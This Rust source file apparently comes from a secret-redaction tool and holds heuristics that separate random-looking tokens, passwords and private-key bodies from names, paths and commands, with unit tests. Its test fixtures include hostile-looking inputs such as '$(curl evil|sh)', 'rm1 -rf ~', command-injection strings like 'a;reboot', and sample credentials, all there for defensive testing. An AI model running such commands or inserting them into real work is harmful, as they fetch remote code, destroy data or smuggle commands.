//! Telling key material from values that a person decides about (rule S4).
//!
//! Words, names of programs, numbers, versions, paths and hosts have a shape that keys do not have: capitals are at the
//! beginning of words, digits between words, and blanks, slashes and dots between those. In a key, runs of letters
//! between digits, capitals and slashes are seldom longer than two. In a name or a path, most words are. In doubt we
//! show a value.

use super::keys::words;

/// The shortest token, in characters.
const TOKEN: usize = 8;
/// The shortest password, in characters.
const PASSWORD: usize = 6;
/// The length from which a word of letters with some digits is taken for a token.
const LONG: usize = 20;
/// The length from which a word is not taken for a name of words and numbers.
const NAME: usize = 32;
/// The shortest base64 text with slashes that is not taken for a path.
const BASE64: usize = 24;
/// The shortest body of a private key in PEM: Ed25519, 64 characters.
const KEY_BODY: usize = 64;

/// Returns `true` if a text looks like a token that a machine made.
pub(super) fn is_token(text: &str) -> bool {
    let token = text.trim_end_matches('=');
    if token.len() < TOKEN
        || !token.chars().all(|c| c.is_ascii_alphanumeric() || "-_.+/~".contains(c))
    {
        return false;
    }
    if token.contains(['/', '+']) {
        return is_base64(text);
    }
    if token.contains('.') {
        // A host has no capitals between its letters.
        return token.split('.').any(|part| part.len() >= 16 && has_all(part) && is_mixed(part));
    }
    is_hex(token) || token.split(['-', '_', '~']).any(is_mixed)
}

/// Returns `true` if a value under a password's name looks like a password: one word with a digit or a sign inside,
/// which a shell would not read as more than a word.
pub(super) fn is_password(text: &str) -> bool {
    if is_token(text) {
        return true;
    }
    let word = text.trim_end_matches('=');
    let plain = |c: char| c.is_ascii_alphanumeric() || "!@#$%^&*+~_-.".contains(c);
    let begins =
        word.starts_with(|c: char| c.is_ascii_alphanumeric() || matches!(c, '#' | '^' | '_'));
    if word.len() < PASSWORD || !begins || !word.chars().all(plain) {
        return false;
    }
    let name = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-');
    let host_or_file = word.contains('.') && word.chars().all(name);
    let address = word.split_once('@').is_some_and(|(_, host)| host.contains('.'));
    // To a shell, `a&reboot` and `a$HOME` are more than a word.
    let runs = word.split('&').skip(1).any(|part| !part.contains(|c: char| c.is_ascii_digit()));
    let letters = |part: &str| part.len() > 2 && part.chars().all(|c| c.is_ascii_alphabetic());
    let refers = word.split('$').skip(1).any(letters);
    !(host_or_file || address || runs || refers) && has_digit_or_sign_inside(word)
}

/// Returns `true` if a word has a digit beside a letter, or a sign before a letter.
fn has_digit_or_sign_inside(word: &str) -> bool {
    let sign = |c: u8| b"!@#$%^&*+~".contains(&c);
    word.as_bytes().windows(2).any(|pair| match pair {
        [a, b] => {
            a.is_ascii_alphabetic() && b.is_ascii_digit()
                || a.is_ascii_digit() && b.is_ascii_alphabetic()
                || sign(*a) && b.is_ascii_alphabetic()
        }
        _ => false,
    })
}

/// Returns `true` if the text after the prefix of a service's token looks like the rest of such a token.
pub(super) fn follows_prefix(rest: &str) -> bool {
    rest.split(['-', '_']).any(|part| {
        part.len() >= TOKEN
            && (part.chars().filter(char::is_ascii_digit).count() >= 2 || is_mixed(part))
    })
}

/// Returns `true` if the lines between `BEGIN PRIVATE KEY` and `END PRIVATE KEY` are a key's: base64 of a plausible
/// length, in lines of one width, that begins as keys do.
pub(super) fn is_key_body(body: &str) -> bool {
    // A key on one line, as in JSON that was escaped twice, has `\n` as two characters.
    let body = body.replace("\\n", "\n");
    let lines: Vec<&str> = body.split('\n').map(|line| line.trim_end_matches('\r')).collect();
    let [before, lines @ .., after] = &lines[..] else { return false };
    let Some((last, full)) = lines.split_last() else { return false };
    let width = full.first().map_or(usize::MAX, |line| line.len());
    let even = full.iter().all(|line| line.len() == width && width >= 48) && last.len() <= width;
    let text = lines.concat();
    let begins = text.starts_with('M') || text.starts_with("b3BlbnNzaC1rZXktdjE");
    before.is_empty()
        && after.is_empty()
        && even
        && begins
        && text.len() >= KEY_BODY
        && text.len().is_multiple_of(4)
        && is_base64_text(&text)
        && full.iter().all(|line| has_all(line))
        && has_all(&text)
}

/// Returns `true` if a text has only letters, digits, `+` and `/`, and at most two `=` at its end.
fn is_base64_text(text: &str) -> bool {
    let body = text.trim_end_matches('=');
    text.len() - body.len() <= 2
        && body.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '/'))
}

/// Returns `true` if a text is base64 and not a path: it has few slashes, no plain word between two of them, and many
/// short runs of letters.
fn is_base64(text: &str) -> bool {
    let word = |part: &str| {
        part.len() > 2
            && (part.chars().all(|c| c.is_ascii_lowercase())
                || part.chars().all(|c| c.is_ascii_uppercase()))
    };
    let separators = text.matches(['/', '+']).count();
    let words = lengths(text);
    let short = words.iter().filter(|length| **length <= 2).count();
    // Base64 with padding has a length that four divides, and so have AWS secrets, with 40 characters.
    text.len() >= BASE64
        && text.len().is_multiple_of(4)
        && is_base64_text(text)
        && has_all(text)
        && !text.starts_with('/')
        && !text.split(['/', '+']).any(word)
        && separators * 8 <= text.len()
        && short * 5 >= words.len() * 2
}

/// The lengths of the words between digits, signs and capitals.
fn lengths(text: &str) -> Vec<usize> {
    let runs = text.split(|c: char| !c.is_ascii_alphabetic());
    runs.flat_map(words).map(|word| word.len()).collect()
}

/// Returns `true` if a word is a name: words with small numbers between them, as in `Run2Wipe3Prod4`.
fn is_name(part: &str) -> bool {
    let small = |run: &str| run.len() <= 3;
    part.len() < NAME
        && part.contains(|c: char| c.is_ascii_uppercase())
        && lengths(part).iter().all(|length| *length > 2)
        && part.split(|c: char| !c.is_ascii_digit()).all(small)
}

/// Returns `true` if a text is a digest, an id or a key in hexadecimal.
fn is_hex(text: &str) -> bool {
    let digits: Vec<char> = text.chars().filter(|c| *c != '-').collect();
    digits.len() >= 16
        && digits.iter().all(char::is_ascii_hexdigit)
        && digits.iter().any(char::is_ascii_digit)
        && digits.iter().any(char::is_ascii_alphabetic)
}

fn has_all(text: &str) -> bool {
    text.contains(|c: char| c.is_ascii_lowercase())
        && text.contains(|c: char| c.is_ascii_uppercase())
        && text.contains(|c: char| c.is_ascii_digit())
}

/// Returns `true` if letters and digits change too often for a word or a name.
fn is_mixed(part: &str) -> bool {
    if part.len() < TOKEN || !part.chars().all(|c| c.is_ascii_alphanumeric()) {
        return false;
    }
    let digits = part.chars().filter(char::is_ascii_digit).count();
    if digits == part.len() {
        return false;
    }
    if digits == 0 {
        // Words of `camelCase` are longer.
        return part.len() >= 12 && words(part).len() * 3 > part.len();
    }
    if is_name(part) {
        return false;
    }
    let class = |c: u8| if c.is_ascii_digit() { 0 } else { 1 + u8::from(c.is_ascii_uppercase()) };
    let changes = part.as_bytes().windows(2).filter(|pair| match pair {
        // A capital begins a word.
        [a, b] => class(*a) != class(*b) && !(class(*a) == 2 && class(*b) == 1),
        _ => false,
    });
    let changes = changes.count();
    changes * 4 > part.len() || part.len() >= LONG && (changes > 2 || digits >= 4)
}

#[cfg(test)]
mod tests {
    use super::*;

    const TOKENS: &[&str] = &[
        "a1b2c3d4",
        "9f8e7d6c5b4a39281706f5e4d3c2b1a0",
        "1234567890abcdef",
        "550e8400-e29b-41d4-a716-446655440000",
        "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
        "wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY12",
        "4eC39HqLyjWDarjtT1zdp7dc",
        "abcdefghij0123456789",
        "dXNlcjpwYXNz",
        "dXNlcjpwYXNzd29yZA==",
        "kX9Z-q2LmN4pR7",
        "MTk4NjIyNDgzNDcxOTI1MjQ4.Cl2FMQ.ZnCjm1XVW7vRze4b7Cq4se7kKWs",
        "q83vEjRWeJCrze8SNFZ4kKvN7xI0VniQ",
        "je7MtGbClwBF/2Zp9Utk/h3yCo8nvbEXAMPLEKEY",
        "sk_test_4eC39HqLyjWDarjtT1zdp7dc",
        "ghp_16C7e42F292c6912E7710c838347Ae178B4a",
        "K7gNU3sdo+OL0wNhqoVWhr3g6s1xYv72ol/pe/Unols=",
        "uC/LeRrOxXhZuYm0MKgmSIzi5Hn9+SMmvQoug3WkK6Q=",
        "mK/2Rz9Xq4Tb+VdL1cNw7Hy8Jg3Pf5Ms6Ax0EuZoQi+B",
        "LPJNul+wow4m6DsqxbninhsWHlwfp0JecwQzYpOLmCQ=",
    ];
    const PASSWORDS: &[&str] = &[
        "hunter2",
        "P@ssw0rd!",
        "Tr0ub4dor&3",
        "s3cr3t",
        "abc123",
        "xK9$mQ2!vB",
        "pa$$word1",
        "sun#flower",
        "a1b2c3",
        "Sommer2024!",
        "qwerty12",
    ];
    const SHOWN: &[&str] = &[
        "",
        "none",
        "disabled",
        "true",
        "500",
        "-1.5",
        "2026-01-01",
        "12345678",
        "allow all",
        "grant admin to mallory",
        "drop database",
        "!sh evil",
        "$(curl evil|sh)",
        "$(reboot)",
        "`reboot`",
        "a;reboot",
        "a&&reboot",
        "x1&reboot",
        "a1|sh",
        "$TOKEN1",
        "${TOKEN1}",
        "a1$HOME",
        "%PATH1%",
        "-rf2",
        "--force1",
        "!reboot1",
        "@file1",
        "~/x1y2z3",
        "/usr/bin/python3",
        "./run1.sh",
        "../x1/y2",
        "tmp/payload1",
        "C:\\x1\\y2",
        "https://h1/x1",
        "db1.internal",
        "db1.internal:5432",
        "evil1.example.com",
        "10.0.0.1",
        "ann1@example.com",
        "https://evil1.example/a1b2c3d4",
        "read-only",
        "allow_all",
        "allowAllUsers",
        "parseHTTPResponse",
        "us-east-1",
        "AES-256-GCM",
        "tls1.2",
        "v1.2.3",
        "A=b1",
        "a1,b2",
        "main1.rs",
        "reboot",
        "letmein",
        "correct-horse-battery-staple",
        "Never!",
        "rm1 -rf ~",
        "授予admin1权限",
        "bin/Deploy2/Production3/eu4",
        "Jobs/Run2/Wipe3/Prod4/Db",
        "Production2Cluster/DatabaseBackup3Weekly",
        "A1b2/C3d4/E5f6/G7h8/I9j0",
        "S3Bucket7/Users42/HomeX1Y/Report2026Docs",
        "Jobs7Nightly2Wipe.sql",
        "echo\\x41",
        "{\"a1\":2}",
        "f(x1)",
        "*.log1",
    ];

    /// S4: "only values that look random".
    #[test]
    fn keys_look_random() {
        for text in TOKENS {
            assert!(is_token(text) && is_password(text), "{text}");
        }
        for text in PASSWORDS {
            assert!(is_password(text), "{text}");
        }
    }

    /// S4: "never a command, path, host, script line, boolean, number or sentence".
    #[test]
    fn names_paths_and_sentences_do_not_look_random() {
        for text in SHOWN {
            assert!(!is_token(text), "{text}");
            assert!(!is_password(text), "{text}");
        }
        for text in [
            "oauth2",
            "Run2Wipe3Prod4",
            "sha256sum",
            "base64url",
            "x86_64-linux",
            "k8s-prod1",
            "web01-eu",
            "utf8",
            "python3",
        ] {
            assert!(!is_token(text), "{text}");
        }
    }
}
